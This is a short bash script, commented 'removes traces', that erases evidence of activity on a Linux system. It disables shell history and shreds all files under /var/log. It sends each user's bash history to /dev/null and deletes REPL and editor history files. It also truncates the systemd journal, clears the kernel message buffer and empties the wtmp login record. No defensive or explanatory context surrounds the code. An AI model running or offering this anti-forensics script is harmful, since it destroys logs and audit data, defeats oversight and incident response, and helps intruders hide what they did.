#!/bin/bash
# removes traces
unset HISTFILE; export HISTSIZE=0
find /var/log -type f -exec shred -zun 2 {} +
for f in /root /home/*; do
  ln -sf /dev/null "$f/.bash_history"
  rm -f "$f"/.{python,mysql,psql,node_repl}_history "$f/.viminfo"
done
journalctl --vacuum-size=1K
dmesg -C
echo > /var/log/wtmp
